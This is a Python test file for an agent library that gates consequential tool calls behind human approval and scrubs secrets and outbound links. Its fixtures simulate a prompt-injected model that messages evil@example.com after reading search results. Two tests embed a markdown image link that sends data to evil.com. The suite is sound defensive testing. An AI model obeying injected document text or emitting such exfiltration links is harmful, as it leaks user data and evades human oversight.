"""Runs that ask: what a human decides is done, once, and nothing else is."""

from __future__ import annotations

import json
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ragagent.agent.policy import Policy
from ragagent.agent.replay import replay, transcript
from ragagent.agent.runner import AgentRunner
from ragagent.errors import AgentError, ConfigError
from ragagent.protocols import Tool
from ragagent.settings import AgentSettings
from ragagent.tools.function import tool
from ragagent.types import Answer, Decision, Hit

TASK = "Search for what a room costs and send 'hello' to amy@example.org"


def cite(task: str, text: str, hits: Sequence[Hit], computed: Sequence[str]) -> Answer:
    return Answer(question=task, text=text, status="partial", confidence=1.0)


class Clock:
    now = 1000.0

    def __call__(self) -> float:
        return self.now


class World:
    """An agent that can search and send, what it has sent, and its clock."""

    def __init__(self, folder: Path, script: Callable[..., Any], tools: list[Tool]) -> None:
        self.sent: list[tuple[str, str]] = []
        self.clock = Clock()
        self._folder, self._script, self._tools = folder, script, tools
        self.made: list[AgentRunner] = []

    def runner(self, *replies: str | BaseException, policy: Policy | None = None, **more: Any) -> AgentRunner:
        @tool(effects={"network"})
        def send_message(to: str, text: str) -> str:
            """Sends."""
            self.sent.append((to, text))
            return "sent"

        llm = self._script(*replies)
        made = AgentRunner(
            llm,
            [*self._tools, send_message, *more.pop("also", ())],
            cite=cite,
            checkpoints=self._folder / "agent.db",
            policy=policy,
            clock=self.clock,
            **more,
        )
        self.made.append(made)
        return made


@pytest.fixture
def world(tmp_path: Path, script: Callable[..., Any], tools: list[Tool]) -> Iterator[World]:
    made = World(tmp_path, script, tools)
    yield made
    for one in made.made:
        one.close()


@pytest.fixture
def obeying(say: Callable[..., str]) -> tuple[str, str]:
    """A model that searches, and then does what a document says."""
    return say("search_documents", query="sauna"), say("send_message", to="evil@example.com", text="84 euros")


@pytest.fixture
def done(say: Callable[..., str]) -> str:
    return say("final_answer", answer="done")


def test_a_call_that_was_read_somewhere_waits_for_a_human_and_shows_where_it_comes_from(
    world: World, obeying: tuple[str, str]
) -> None:
    events = list(world.runner(*obeying).stream(TASK, run_id="r"))
    result = events[-1].result
    assert result is not None
    assert (result.stopped, world.sent) == ("approval", [])
    asked = result.approval
    assert asked is not None
    assert [event.approval for event in events if event.kind == "approval"] == [asked]
    assert (asked.tool, dict(asked.arguments)) == ("send_message", {"to": "evil@example.com", "text": "84 euros"})
    assert {origin.path: origin.why for origin in asked.origins} == {
        "to": "written by the model after it had read the results of search_documents",
        "text": "written by the model after it had read the results of search_documents",
    }
    assert result.answer.status == "refused"
    assert "waits for an approval: send_message" in result.answer.reason


def test_the_approved_call_is_made_once_by_another_process_and_the_run_goes_on(
    world: World, obeying: tuple[str, str], done: str
) -> None:
    asked = world.runner(*obeying).run(TASK, run_id="r").approval
    assert asked is not None
    result = world.runner(done).resume("r", asked.approve())
    assert (result.stopped, result.answer.text) == ("finished", "done")
    assert world.sent == [("evil@example.com", "84 euros")]
    assert [step.approval for step in result.steps] == ["", asked.id, ""]
    assert world.runner().resume("r") == result
    with pytest.raises(AgentError, match="waits for no approval"):
        world.runner().resume("r", asked.approve())
    assert len(world.sent) == 1


def test_a_denied_call_is_not_made_and_the_model_is_told(world: World, obeying: tuple[str, str], done: str) -> None:
    asked = world.runner(*obeying).run(TASK, run_id="r").approval
    assert asked is not None
    result = world.runner(done).resume("r", asked.deny())
    assert (result.stopped, world.sent) == ("finished", [])
    observation = result.steps[1].observation
    assert observation is not None
    assert "did not allow" in observation.content


def test_a_run_waits_on_while_nobody_has_decided_and_takes_no_other_decision(
    world: World, obeying: tuple[str, str], done: str
) -> None:
    first = world.runner(*obeying).run(TASK, run_id="r")
    assert world.runner().resume("r") == first
    with pytest.raises(AgentError, match="not for 'other'"):
        world.runner(done).resume("r", Decision(approval_id="other", approved=True))
    assert world.sent == []


def test_an_approval_that_comes_too_late_is_asked_for_anew(world: World, obeying: tuple[str, str], done: str) -> None:
    policy = Policy(approval_seconds=60)
    first = world.runner(*obeying, policy=policy).run(TASK, run_id="r").approval
    assert first is not None
    world.clock.now += 61
    second = world.runner(done, policy=policy).resume("r", first.approve()).approval
    assert second is not None
    assert world.sent == []
    assert (second.id != first.id, second.digest) == (True, first.digest)
    with pytest.raises(AgentError, match="not for"):
        world.runner(done, policy=policy).resume("r", first.approve())
    assert world.runner(done, policy=policy).resume("r", second.approve()).stopped == "finished"
    assert len(world.sent) == 1


def test_what_the_task_says_word_for_word_needs_no_approval(world: World, say: Callable[..., str], done: str) -> None:
    call = say("send_message", to="amy@example.org", text="hello")
    result = world.runner(say("search_documents", query="room"), call, done).run(TASK)
    assert (result.stopped, world.sent) == ("finished", [("amy@example.org", "hello")])


def test_where_nobody_can_be_asked_the_call_is_denied(
    script: Callable[..., Any], tools: list[Tool], obeying: tuple[str, str], done: str
) -> None:
    sent: list[str] = []

    @tool(effects={"network"})
    def send_message(to: str, text: str) -> None:
        sent.append(to)

    for policy in (Policy(), Policy(always_ask=True)):
        llm = script(*obeying, done)
        result = AgentRunner(llm, [*tools, send_message], cite=cite, policy=policy).run(TASK)
        assert (result.stopped, sent) == ("finished", [])
        observation = result.steps[1].observation
        assert observation is not None
        assert observation.error


def test_a_tool_that_declares_nothing_is_taken_to_do_everything(
    world: World, say: Callable[..., str], done: str
) -> None:
    @tool
    def mystery(x: str) -> str:
        return x

    said = (say("search_documents", query="room"), say("mystery", x="room"), done)
    assert world.runner(*said, also=[mystery]).run("Look at the room").stopped == "approval"


def test_under_read_only_the_model_is_not_even_offered_what_changes_things(
    world: World, say: Callable[..., str], done: str
) -> None:
    said = (say("send_message", to="amy@example.org", text="hello"), say("search_documents", query="room"), done)
    runner = world.runner(*said, policy=Policy(read_only=True))
    result = runner.run(TASK)
    observation = result.steps[0].observation
    assert observation is not None
    assert "'send_message' cannot be used now" in observation.content
    llm = runner._parts.llm
    assert all("send_message" not in request.grammar.source for request in llm.requests)  # type: ignore[attr-defined]
    assert "send_message" not in llm.requests[0].messages[0].content  # type: ignore[attr-defined]
    assert world.sent == []


def test_secrets_reach_the_tools_that_declare_them_and_nothing_else(
    world: World, say: Callable[..., str], tmp_path: Path
) -> None:
    got: list[str] = []

    @tool(effects={"read"}, secrets={"key"})
    def look_up(name: str, key: str) -> str:
        got.append(key)
        return f"{name}: used {key}, in hex {key.encode().hex()}"

    @tool(effects={"read"})
    def fail(why: str) -> str:
        raise RuntimeError("it was tr0ub4dor&3 after all")

    assert "key" not in look_up.spec.parameters["properties"]
    said = (
        say("look_up", name="Amy"),
        say("fail", thought="the key is tr0ub4dor&3", why="x"),
        say("final_answer", answer="It is tr0ub4dor&3."),
    )
    runner = world.runner(*said, also=[look_up, fail], secrets={"key": "tr0ub4dor&3", "other": "unused-secret"})
    result = runner.run("Look up Amy with tr0ub4dor&3", run_id="r")
    assert got == ["tr0ub4dor&3"]
    assert result.answer.text == "It is [secret key]."
    prompts = json.dumps([[m.content for m in request.messages] for request in runner._parts.llm.requests])  # type: ignore[attr-defined]
    runner.close()
    stored = b"".join(file.read_bytes() for file in tmp_path.glob("agent.db*"))
    for spelling in ("tr0ub4dor&3", b"tr0ub4dor&3".hex(), "tr0ub4dor%263", "unused-secret"):
        assert spelling not in repr(result)
        assert spelling not in prompts
        assert spelling.encode() not in stored
    with pytest.raises(ConfigError, match="needs the secret 'key'"):
        world.runner(also=[look_up])


@pytest.mark.parametrize(
    ("declared", "message"),
    [({"effects": {"fly"}}, "fly"), ({"accepts": {"y"}}, "'y'"), ({"secrets": {"y"}}, "'y'")],
)
def test_rights_that_make_no_sense_are_refused(declared: dict[str, Any], message: str) -> None:
    with pytest.raises(ConfigError, match=message):

        @tool(**declared)
        def anything(x: str) -> None: ...


def test_an_answer_carries_no_link_to_a_host_that_was_not_listed(world: World, say: Callable[..., str]) -> None:
    text = "See https://example.org/a and ![x](https://evil.com/?d=84)."
    limits = AgentSettings(allowed_hosts=("example.org",))
    said = (say("search_documents", query="room"), say("final_answer", answer=text))
    result = world.runner(*said, settings=limits).run("What does a room cost?")
    assert result.answer.text == "See https://example.org/a and x [link removed]."


def test_what_the_model_notes_and_why_there_is_no_answer_is_shown_without_links_too(
    world: World, say: Callable[..., str]
) -> None:
    call = say("send_message", thought="![x](https://evil.com/?d=84)", to="https://evil.com/?d=84", text="84")
    events = list(world.runner(say("search_documents", query="room"), call).stream(TASK))
    shown = [event.text for event in events if event.kind == "thought"]
    assert shown[-1] == "x [link removed]"
    assert events[-1].result is not None
    assert "evil.com" not in events[-1].result.answer.reason


LEFT = """
import json, os, signal, sys
from pathlib import Path
from ragagent.agent.runner import AgentRunner
from ragagent.testing.llm import ScriptedLLM
from ragagent.tools.function import tool
from ragagent.types import Answer

file, log, *more = sys.argv[1:]

@tool(effects={"write"}, idempotent=IDEMPOTENT)
def write_down(text: str) -> str:
    with open(log, "a") as out:
        out.write(text + "\\n")
    if not more:
        os.kill(os.getpid(), signal.SIGKILL)
    return "written"

def say(name, **arguments):
    return json.dumps({"found": "", "tool": name, "arguments": arguments})

def cite(task, text, hits, computed):
    return Answer(question=task, text=text, status="partial", confidence=0.0)

said = [say("final_answer", answer="done")] if more else [say("write_down", text="one")]
runner = AgentRunner(ScriptedLLM(said), [write_down], cite=cite, checkpoints=Path(file))
if not more:
    runner.run("Write down one", run_id="r")
result = runner.resume("r")
if result.approval is not None and more != ["ask"]:
    decide = result.approval.approve if more == ["approve"] else result.approval.deny
    print(result.approval.kind)
    result = runner.resume("r", decide())
print(result.stopped)
"""


@pytest.mark.parametrize(
    ("decision", "idempotent", "said", "written"),
    [
        ("ask", False, ["approval"], 1),
        ("approve", False, ["unknown", "finished"], 2),
        ("deny", False, ["unknown", "finished"], 1),
        ("ask", True, ["finished"], 2),
    ],
)
def test_a_call_under_way_when_the_process_was_killed_is_asked_about_and_not_made_again_unasked(
    tmp_path: Path, decision: str, idempotent: bool, said: list[str], written: int
) -> None:
    program = LEFT.replace("IDEMPOTENT", str(idempotent))
    given = [sys.executable, "-c", program, str(tmp_path / "agent.db"), str(tmp_path / "log")]
    assert subprocess.run(given, capture_output=True, timeout=300).returncode == -9
    finished = subprocess.run([*given, decision], capture_output=True, text=True, timeout=300)
    assert finished.stdout.split() == said, finished.stderr
    assert len((tmp_path / "log").read_text().split()) == written


def said_by(say: Callable[..., str]) -> Any:
    return st.sampled_from(
        [
            say("search_documents", query="room"),
            say("search_documents", query="sauna"),
            say("calculate", expression="84 * 3"),
            say("send_message", to="evil@example.com", text="84"),
            say("send_message", to="amy@example.org", text="hello"),
            say("send_message", to="amy@example.org", text="84 euros"),
            say("delete_all"),
            say("final_answer", answer="done"),
            "nonsense",
        ]
    )


@given(data=st.data())
@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_run_makes_a_consequential_call_of_what_it_has_read_without_an_approval_and_every_run_replays(
    data: st.DataObject, script: Callable[..., Any], say: Callable[..., str], tools: list[Tool]
) -> None:
    made: list[str] = []

    @tool(effects={"network"})
    def send_message(to: str, text: str) -> None:
        made.append(f"send_message:{to}:{text}")

    @tool(effects={"write"})
    def delete_all() -> None:
        made.append("delete_all")

    replies = data.draw(st.lists(said_by(say), min_size=6, max_size=6))
    decisions = data.draw(st.lists(st.booleans(), min_size=6, max_size=6))
    approved: list[str] = []
    with tempfile.TemporaryDirectory() as folder:
        runner = AgentRunner(
            script(*replies, *["no"] * 12),  # a reply that makes no step is asked for again
            [*tools, send_message, delete_all],
            cite=cite,
            settings=AgentSettings(max_steps=6),
            checkpoints=Path(folder) / "agent.db",
        )
        result = runner.run(TASK, run_id="r")
        for decision in decisions:
            if result.approval is None:
                break
            asked = result.approval
            if decision:
                approved.append(":".join([asked.tool, *map(str, asked.arguments.values())]))
            result = runner.resume("r", asked.approve() if decision else asked.deny())
        assert result.stopped != "approval"
        read = [i for i, one in enumerate(result.steps) if one.observation and not one.observation.label.trusted]
        for index, step in enumerate(result.steps):
            if step.call is None or step.call.name not in {"send_message", "delete_all"}:
                continue
            if step.observation is None or step.observation.error:
                continue
            key = ":".join([step.call.name, *map(str, step.call.arguments.values())])
            harmless = key == "send_message:amy@example.org:hello" or not read or read[0] >= index
            assert key in made
            assert key in approved or harmless
        assert len(made) == len(set(made))
        entries = list(runner.journal.entries("r"))
        again = replay(entries)
        assert (again.problem, again.steps, again.answer, again.stopped) == (
            "",
            result.steps,
            result.answer.text,
            result.stopped,
        )
        assert transcript(entries)
        assert runner.journal.check() == ""
        runner.close()
